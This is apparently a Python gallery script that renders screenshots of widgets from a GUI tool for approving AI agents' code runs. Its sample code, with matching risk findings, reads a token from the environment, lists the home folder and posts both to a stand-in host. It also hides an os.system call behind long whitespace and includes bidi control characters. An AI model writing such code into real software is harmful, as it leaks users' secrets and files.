"""Draws every part in its states, light and dark, at 100 % and 200 %, into build/gallery, to be looked at.

Run: QT_QPA_PLATFORM=offscreen python tests/gui/parts/gallery.py
"""

from __future__ import annotations

import math
import sys
import time
from pathlib import Path

from PySide6.QtCore import QSize
from PySide6.QtWidgets import (
    QApplication,
    QCheckBox,
    QComboBox,
    QGridLayout,
    QHBoxLayout,
    QLabel,
    QLineEdit,
    QListWidget,
    QPushButton,
    QSpinBox,
    QTabBar,
    QToolButton,
    QVBoxLayout,
    QWidget,
)

from app.look.look import Look, Theme
from app.parts import amounts
from app.parts.badge import Badge
from app.parts.elide import ElidedLabel
from app.parts.empty import EmptyState
from app.parts.gauges.gauge import GaugeView
from app.parts.gauges.ring import CountdownRing
from app.parts.notice import Notice, Tone
from app.parts.text.code import CodeView
from app.parts.text.output import OutputView
from runner.model.assessment import Capability, Finding, Level, Span
from runner.sandbox.output import Stream, Transcript
from runner.system.clock import since_boot

OUT = Path(__file__).resolve().parents[3] / "build" / "gallery"


def small_parts(look: Look) -> QWidget:
    page = QWidget()
    column = QVBoxLayout(page)
    column.setSpacing(look.px(12))
    for tone, text, action in (
        (Tone.INFO, "Assent runs in the background. Agents can reach it on this computer only.", ""),
        (Tone.GOOD, "The ledger is whole: 1,204 entries, each follows from the one before.", ""),
        (Tone.WARN, "The settings file could not be read (line 12). Assent asks for everything.", "Open settings"),
        (Tone.BAD, "The disk is full. Nothing is approved until there is room for the record. " * 2, "Try again"),
    ):
        column.addWidget(Notice(look, tone, text, action, closable=tone is not Tone.BAD))
    row = QHBoxLayout()
    row.setSpacing(look.px(12))
    for level in Level:
        row.addWidget(Badge(look, level))
    for left in (48.0, 21.0, 7.0):
        ring = CountdownRing(look)
        ring.set_deadline(since_boot() + left, 60)
        row.addWidget(ring)
    row.addWidget(ElidedLabel("POST metrics to api.example.com and then go on with a very long title indeed " * 2), 1)
    column.addLayout(row)
    row = QHBoxLayout()
    row.setSpacing(look.px(8))
    for kind, text, icon, ink in (
        ("primary", "Approve once", "play", "on_accent"),
        ("danger", "Deny", "ban", "high"),
        ("", "Edit", "pencil", "muted"),
        ("quiet", "Copy", "copy", "muted"),
    ):
        button = QPushButton(text)
        button.setProperty("kind", kind)
        look.dress(button, icon, ink)
        row.addWidget(button)
    off = QPushButton("Approve once")
    off.setProperty("kind", "primary")
    off.setEnabled(False)
    row.addWidget(off)
    tool = QToolButton()
    look.dress(tool, "settings")
    row.addWidget(tool)
    row.addStretch()
    column.addLayout(row)
    row = QHBoxLayout()
    row.setSpacing(look.px(8))
    field = QLineEdit()
    field.setPlaceholderText("Search history")
    box = QComboBox()
    box.addItems(["All levels", "HIGH and above"])
    number = QSpinBox()
    number.setRange(1, 3600)
    number.setSuffix(" s")
    check = QCheckBox("Only mine")
    check.setChecked(True)
    off_check = QCheckBox("Later")
    for widget in (field, box, number, check, off_check):
        row.addWidget(widget)
    column.addLayout(row)
    tabs = QTabBar()
    tabs.setExpanding(False)
    tabs.addTab("run 1841")
    tabs.addTab("run 1842")
    column.addWidget(tabs)
    rows = QListWidget()
    rows.addItems(["Analyze sales CSV and plot", "Read ~/.ssh/config", "Resize images in ./assets"])
    rows.setCurrentRow(1)
    rows.setMaximumHeight(look.px(110))
    column.addWidget(rows)
    for role in ("title", "large", "heading", "muted", "small", "ok", "warn", "bad"):
        label = QLabel(f"{role}: 312 MB of 512 MB != -> https://")
        label.setProperty("role", role)
        column.addWidget(label)
    code = QLabel("mono: 312 MB of 512 MB != -> https://")
    code.setFont(look.mono())
    column.addWidget(code)
    return page


def cards(look: Look) -> QWidget:
    page = QWidget()
    grid = QGridLayout(page)
    grid.setSpacing(look.px(12))
    cpu = GaugeView(look, "cpu", "CPU", amounts.percent)
    cpu.set_limit(50)
    memory = GaugeView(look, "memory-stick", "Memory", amounts.size)
    memory.set_limit(512 << 20)
    disk = GaugeView(look, "hard-drive", "Disk", amounts.size)
    disk.set_limit(1 << 30)
    disk.add(0, 0)
    disk.add(1, 18 << 20)
    network = GaugeView(look, "network", "Network", amounts.size)
    network.no_data("No network")
    processes = GaugeView(look, "layers", "Processes", lambda value: f"{value:.0f}")
    processes.set_limit(64)
    full = GaugeView(look, "memory-stick", "Memory", amounts.size)
    full.set_limit(512 << 20)
    for at in range(120):
        cpu.add(at, 20 + 15 * math.sin(at / 7) + 5 * math.sin(at * 1.7))
        memory.add(at, (100 + at * 2.7 + 20 * math.sin(at / 3)) * (1 << 20))
        processes.add(at, 1 + at // 30)
        full.add(at, min(512, 40 + at * 6) * (1 << 20))
    for place, gauge in enumerate((cpu, memory, disk, network, processes, full)):
        grid.addWidget(gauge, place // 2, place % 2)
    return page


def empty(look: Look) -> QWidget:
    return EmptyState(
        look,
        "inbox",
        "Nothing to decide",
        "When an agent asks to run code, it appears here. No agent is connected yet.",
        "Connect an agent",
    )


CODE = (
    """import os, subprocess, json
import requests
from pathlib import Path

API = "https://api.example.com/v1/metrics"

def collect(root: Path) -> dict:
    \"\"\"Walk the tree and collect file sizes.

    Over two lines.\"\"\"
    out = {}
    for p in root.rglob("*"):
\t\tif p.is_file() and p.stat().st_size != 0:  # a comment
            out[str(p)] = p.stat().st_size
    return out

uname = subprocess.run(["uname", "-a"], capture_output=True, text=True)
token = os.environ["METRICS_TOKEN"]
payload = {"files": collect(Path.home()), "x": 1}
r = requests.post(API, json=payload, headers={"Authorization": token, "User-Agent": "metrics/1.0"}, timeout=30)
hidden = "a\u202eb\u200bc\u00a0d" + "\u05d0\u05d1\u05d2 123" + "\u65e5\u672c\u8a9e" + "\U0001f600"
"""
    + "x = 1"
    + " " * 130
    + """; os.system("far away")
print(r.status_code, len(payload["files"]))
"""
)


def finding(line: int, column: int, length: int, level: Level, reason: str) -> Finding:
    return Finding(
        "python.example", level, Capability.NETWORK, Span(line, column, line, column + length), "", reason, "T1059"
    )


FINDINGS = (
    finding(2, 7, 8, Level.MEDIUM, "Uses a network library."),
    finding(17, 8, 14, Level.MEDIUM, "Starts a program."),
    finding(18, 8, 10, Level.HIGH, "Reads a secret from the environment."),
    finding(19, 28, 11, Level.HIGH, "Lists everything in the home folder of the person who runs it."),
    finding(20, 4, 13, Level.CRITICAL, "Sends what was collected to another computer, together with a secret."),
    finding(20, 60, 5, Level.MEDIUM, "Uses a network library."),
    finding(21, 11, 3, Level.CRITICAL, "Holds characters that change the order in which the text is read."),
    finding(22, 137, 9, Level.CRITICAL, "Runs a shell command."),
)


def code(look: Look) -> QWidget:
    view = CodeView(look)
    view.set_code(CODE, "python", FINDINGS)
    view.setFocus()
    view.scroll_to(17)
    return view


OUTPUT = (
    b"$ python report.py\n2025-11-21 10:04:11  INFO  loaded 18,402 rows from sales.csv\n"
    b"\x1b[33m2025-11-21 10:04:12  WARN  3 rows have no region\x1b[0m\n"
    b"\x1b[1mbold\x1b[0m \x1b[31mred\x1b[0m \x1b[32mgreen\x1b[0m \x1b[34mblue\x1b[0m \x1b[35mmagenta\x1b[0m "
    b"\x1b[36mcyan\x1b[0m \x1b[90mgray\x1b[0m \x1b[7mswapped\x1b[0m \x1b[30;40mblack on black\x1b[0m "
    b"\x1b[41;97mwhite on red\x1b[0m \x1b[38;5;208morange\x1b[0m \x1b[4munderlined\x1b[0m\n"
    b"10 %\r20 %\r100 % done\n\x1b]8;;http://example.com\x07a link\x1b]8;;\x07, a bell\x07, a tab\there\n"
    b"hidden: \xe2\x80\xaea\xe2\x80\x8b \xff " + b"x" * 60 + b"\n"
)
ERRORS = b'Traceback (most recent call last):\n  File "report.py", line 3, in <module>\nValueError: no region\n'


def output(look: Look) -> QWidget:
    transcript = Transcript(1 << 20)
    transcript.append(Stream.OUT, OUTPUT)
    transcript.append(Stream.ERR, ERRORS)
    transcript.append(Stream.OUT, b"y" * 9000 + b"\n" + b"one more line of output\n" * 30)
    view = OutputView(look)
    view.set_source(transcript)
    view.pane.go_to_start()
    view.open_search()
    view.search.field.setText("region")
    return view


PAGES = {
    "output": (output, QSize(760, 420)),
    "code": (code, QSize(760, 620)),
    "small": (small_parts, QSize(900, 760)),
    "gauges": (cards, QSize(560, 330)),
    "empty": (empty, QSize(600, 340)),
}


def draw(app: QApplication, only: str = "") -> None:
    """One picture for each page, theme and scale."""
    OUT.mkdir(parents=True, exist_ok=True)
    for scale in (1.0, 2.0):
        for theme in (Theme.LIGHT, Theme.DARK):
            look = Look(app, theme, scale)
            for name, (build, size) in PAGES.items():
                if only and only != name:
                    continue
                page = build(look)
                page.resize(size * scale)
                page.show()
                until = time.monotonic() + 0.4
                while time.monotonic() < until:
                    app.processEvents()
                page.grab().save(str(OUT / f"{name}-{theme}-{scale * 100:.0f}.png"))
                page.close()


if __name__ == "__main__":
    draw(QApplication(sys.argv), *sys.argv[1:2])
